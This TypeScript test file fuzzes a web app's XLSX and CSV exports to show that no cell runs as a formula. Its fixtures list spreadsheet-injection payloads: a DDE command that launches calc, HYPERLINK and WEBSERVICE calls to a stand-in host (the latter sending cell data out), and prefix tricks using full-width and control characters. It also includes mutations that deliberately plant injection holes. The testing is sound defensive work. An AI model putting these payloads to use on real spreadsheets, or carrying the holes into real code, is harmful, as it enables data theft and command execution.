import { readSheet } from "read-excel-file/node";
import { csvOf } from "~/papers/csv.server";
import { cleaned } from "~/papers/paper";
import { renderSpreadsheet } from "~/papers/render.server";
import type { Spreadsheet } from "~/papers/xlsx.server";
import { unzip } from "../unit/papers-reading";
import { type Guarantee, type Proof, type ProofOptions, randomFrom } from "./guarantee";

const imprint = { digest: "ab".repeat(32), competitionTitle: "Конкурс", date: "2026-04-20T00:00:00Z" };
/** Cells of one table: as wide as the journal of registration. */
const [ROWS, COLUMNS] = [20, 5];

const beginnings = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "\0=",
  " =",
  "＝",
  "＋",
  "－",
  "＠",
  "\uFEFF=",
  "'=",
  '"=',
  ";=",
];
const tails = [
  'HYPERLINK("http://zlo.example","Откройте")',
  "cmd|' /C calc'!A0",
  "1+1",
  "SUM(A1:A9)",
  'WEBSERVICE("http://zlo.example/"&A1)',
  "]]><f>1+1</f><![CDATA[",
  '</t></is><f>1+1</f><is t="',
  "&lt;f&gt;",
  '";=1+1;"',
  "АНО «Ёлка» & партнёры",
];

type Cells = { texts: string[][]; kopecks: bigint[] };

function cellsOf(random: () => number): Cells {
  const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)]!;
  const text = () =>
    (random() < 0.8 ? pick(beginnings) : "") + pick(tails) + (random() < 0.2 ? `\n=${pick(tails)}` : "");
  return {
    texts: Array.from({ length: ROWS }, () => Array.from({ length: COLUMNS - 1 }, text)),
    kopecks: Array.from({ length: ROWS }, () => BigInt(Math.floor(random() * 1e13))),
  };
}

const tableOf = ({ texts, kopecks }: Cells): Spreadsheet => ({
  fileName: "Таблица",
  sheet: "Таблица",
  title: "=1+1",
  columns: [
    ...Array.from({ length: COLUMNS - 1 }, (_, n) => ({ head: `=${n}`, width: 20, kind: "text" as const })),
    { head: "Сумма, ₽", width: 20, kind: "money" },
  ],
  rows: texts.map((row, n) => [...row, String(kopecks[n])]),
  notes: ["=1+1", "@SUM(1)"],
});

/** What is wrong with a spreadsheet: a formula, a text that is not the one typed, a sum that is no number. */
async function faultsOfXlsx(cells: Cells): Promise<string[]> {
  const { bytes } = await renderSpreadsheet(tableOf(cells), imprint);
  const faults: string[] = [];
  for (const [name, part] of unzip(bytes))
    if (name.startsWith("xl/worksheets/") && /<f[\s>/]|t="str"/.test(part.toString("utf8")))
      faults.push(`a formula in ${name}`);
  const read = await readSheet(Buffer.from(bytes), { trim: false });
  const head = read.findIndex((row) => row.includes("Сумма, ₽"));
  cells.texts.forEach((row, n) => {
    const got = read[head + 1 + n] ?? [];
    row.forEach((typed, at) => {
      if (got[at] !== cleaned(typed)) faults.push(`${JSON.stringify(typed)} reads as ${JSON.stringify(got[at])}`);
    });
    if (got[COLUMNS - 1] !== Number(cells.kopecks[n]) / 100)
      faults.push(`${cells.kopecks[n]} kopecks read as ${JSON.stringify(got[COLUMNS - 1])}`);
  });
  return faults;
}

/** The cells of a CSV by RFC 4180 with semicolons, read without the code that wrote it. */
function readCsv(csv: string): string[][] {
  const rows: string[][] = [[]];
  const pattern = /(?:"((?:[^"]|"")*)"|([^";\r\n]*))(;|\r\n|$)/gy;
  const text = csv.replace(/^\uFEFF/, "");
  for (let found = pattern.exec(text); found && pattern.lastIndex <= text.length; found = pattern.exec(text)) {
    rows.at(-1)!.push(found[1]?.replaceAll('""', '"') ?? found[2] ?? "");
    if (found[3] === "") break;
    if (found[3] === "\r\n") {
      if (pattern.lastIndex === text.length) break;
      rows.push([]);
    }
  }
  return rows;
}

/** Spreadsheets look at the first character that is not blank, in either width. */
const runs = (cell: string) => /^[=+\-@]/.test(cell.normalize("NFKC").replace(/^[\s\0\uFEFF]+/, ""));

function faultsOfCsv({ texts }: Cells): string[] {
  const read = readCsv(csvOf(texts));
  const faults = read.flatMap((row) => row.filter(runs).map((cell) => `CSV: ${JSON.stringify(cell)} runs`));
  texts.forEach((row, n) => {
    row.forEach((typed, at) => {
      const got = read[n]?.[at] ?? "";
      if (got !== typed && got !== `'${typed}`)
        faults.push(`CSV: ${JSON.stringify(typed)} reads as ${JSON.stringify(got)}`);
    });
  });
  return faults;
}

async function prove({ size, seed, untilRed }: ProofOptions): Promise<Proof> {
  const random = randomFrom(seed);
  const failures: string[] = [];
  let n = 0;
  while (n < size && !(untilRed && failures.length > 0)) {
    const cells = cellsOf(random);
    failures.push(...(await faultsOfXlsx(cells)), ...faultsOfCsv(cells));
    n += ROWS * COLUMNS;
  }
  return { n, failures: [...new Set(failures)] };
}

export const guarantee: Guarantee = {
  id: "H2",
  promise: "no cell of an export is run as a formula; texts stay as typed, numbers stay numbers",
  bugSize: 400,
  needsBuild: false,
  bugs: [
    {
      name: "texts of a spreadsheet are formulas when they look like one",
      file: "app/papers/xlsx.server.ts",
      find: "return { type: String, value: clean, wrap: true, ...look } as CellObject;",
      replace:
        'return (clean.startsWith("=") ? { type: "Formula", value: clean } : { type: String, value: clean, wrap: true, ...look }) as CellObject;',
    },
    {
      name: "sums are texts",
      file: "app/papers/xlsx.server.ts",
      find: 'return { type: Number, value: Number(value) / 100, format: "#,##0.00", ...look };',
      replace: "return text(String(Number(value) / 100), look);",
    },
    {
      name: "wide signs are let through to CSV",
      file: "app/papers/csv.server.ts",
      find: "[=+\\-@＝＋－＠]|",
      replace: "[=+\\-@]|",
    },
    {
      name: "quotes are not doubled in CSV",
      file: "app/papers/csv.server.ts",
      find: "safe.replaceAll('\"', '\"\"')",
      replace: "safe",
    },
  ],
  prove,
};
